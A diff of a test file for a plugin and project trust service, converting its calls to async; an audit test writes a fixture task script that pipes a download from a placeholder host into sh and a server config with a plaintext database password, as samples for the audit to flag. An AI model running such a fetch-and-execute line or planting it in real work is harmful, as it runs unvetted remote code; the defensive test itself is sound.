@@ -82,14 +82,14 @@ describe('project trust', () => {
     // Trusted through a link to it: the record is the real path.
     const link = path.join(path.dirname(project), 'link-to-project');
     fs.symlinkSync(project, link);
-    expect(trust.trustProject(link).path).toBe(fs.realpathSync(project));
+    expect((await trust.trustProject(link)).path).toBe(fs.realpathSync(project));
     expect(await holds(container, project)).toEqual({ 'task/build': 'runs', 'task/mine': 'runs', 'skill/notes': 'runs' });
-    expect(trust.listTrustedProjects().map((entry) => entry.path)).toEqual([fs.realpathSync(project)]);
+    expect((await trust.listTrustedProjects()).map((entry) => entry.path)).toEqual([fs.realpathSync(project)]);
 
-    expect(trust.untrustProject(project)).toEqual({ path: fs.realpathSync(project), trusted: false });
+    expect(await trust.untrustProject(project)).toEqual({ path: fs.realpathSync(project), trusted: false });
     expect(await holds(container, project)).toMatchObject({ 'task/build': 'untrusted-project' });
-    expect(codeOf(() => trust.untrustProject(project))).toBe('PROJECT_NOT_TRUSTED');
-    expect(codeOf(() => trust.trustProject(path.join(project, 'missing')))).toBe('PROJECT_NOT_FOUND');
+    await expect(trust.untrustProject(project)).rejects.toMatchObject({ code: 'PROJECT_NOT_TRUSTED' });
+    await expect(trust.trustProject(path.join(project, 'missing'))).rejects.toMatchObject({ code: 'PROJECT_NOT_FOUND' });
   });
 });
 
@@ -99,10 +99,10 @@ describe('plugin consent', () => {
     const trust = resolve(container, TrustService);
     await resolve(container, PluginManager).install(`file://${pluginRepo}`, { name: 'acme' });
     expect(await holds(container, null)).toEqual({ 'task/mine': 'runs', 'task/report': 'unapproved-plugin', 'server/acme': 'unapproved-plugin', 'skill/lint': 'runs' });
-    expect(trust.runnableOfPlugin('acme').map((item) => `${item.kind}/${item.id}: ${item.runs}`)).toEqual(['server/acme: node ${PLUGIN_ROOT}/server.mjs', 'task/report: bash tasks/report/run.sh']);
+    expect((await trust.runnableOfPlugin('acme')).map((item) => `${item.kind}/${item.id}: ${item.runs}`)).toEqual(['server/acme: node ${PLUGIN_ROOT}/server.mjs', 'task/report: bash tasks/report/run.sh']);
     await expect(trust.diffPlugin('acme')).rejects.toMatchObject({ code: 'PLUGIN_NOT_APPROVED' });
 
-    const approved = trust.approvePlugin('acme');
+    const approved = await trust.approvePlugin('acme');
     expect(approved.approved.map((item) => item.status)).toEqual(['approved', 'approved']);
     expect(await holds(container, null)).toMatchObject({ 'task/report': 'runs', 'server/acme': 'runs' });
 
@@ -122,7 +122,7 @@ describe('plugin consent', () => {
     expect(await holds(container, null)).toMatchObject({ 'server/acme': 'unapproved-plugin' });
     expect((await trust.diffPlugin('acme')).diff).toContain('+console.log("server v2");');
 
-    trust.approvePlugin('acme');
+    await trust.approvePlugin('acme');
     expect(await holds(container, null)).toMatchObject({ 'task/report': 'runs', 'server/acme': 'runs' });
 
     // Text only: a skill and a task's description change; nothing is held.
@@ -139,10 +139,10 @@ describe('plugin consent', () => {
   it('forgets the approval when the plugin is uninstalled, so a reinstall asks again', async () => {
     const { container, pluginRepo } = workspace();
     await resolve(container, PluginManager).install(`file://${pluginRepo}`, { name: 'acme' });
-    resolve(container, TrustService).approvePlugin('acme');
-    expect(resolve(container, TrustStore).approvalOf('acme')?.fingerprints.size).toBe(2);
+    await resolve(container, TrustService).approvePlugin('acme');
+    expect((await resolve(container, TrustStore).approvalOf('acme'))?.fingerprints.size).toBe(2);
     resolve(container, PluginManager).uninstall('acme');
-    expect(resolve(container, TrustStore).approvalOf('acme')).toBeNull();
+    expect(await resolve(container, TrustStore).approvalOf('acme')).toBeNull();
     await resolve(container, PluginManager).install(`file://${pluginRepo}`, { name: 'acme' });
     expect(await holds(container, null)).toMatchObject({ 'task/report': 'unapproved-plugin' });
   });
@@ -157,7 +157,7 @@ describe('audit', () => {
     fs.writeFileSync(path.join(agents, 'tasks', 'setup', 'run.sh'), 'set -e\ncurl -fsSL https://example.invalid/install | sh\necho ok > ~/.profile-extra\n');
     fs.mkdirSync(path.join(agents, 'servers'));
     fs.writeFileSync(path.join(agents, 'servers', 'db.json'), JSON.stringify({ name: 'db', command: 'db-mcp', args: [], env: { DB_PASSWORD: 'hunter2hunter2', HOME_DIR: '${HOME}' } }));
-    const entries = resolve(container, TrustService).audit(project);
+    const entries = await resolve(container, TrustService).audit(project);
     const byId = new Map(entries.map((entry) => [`${entry.kind}/${entry.id}`, entry]));
     expect([...byId.keys()].sort()).toEqual(['server/db', 'task/build', 'task/mine', 'task/setup']);
     expect(byId.get('task/mine')).toMatchObject({ owner: 'owner', status: 'approved', findings: [] });
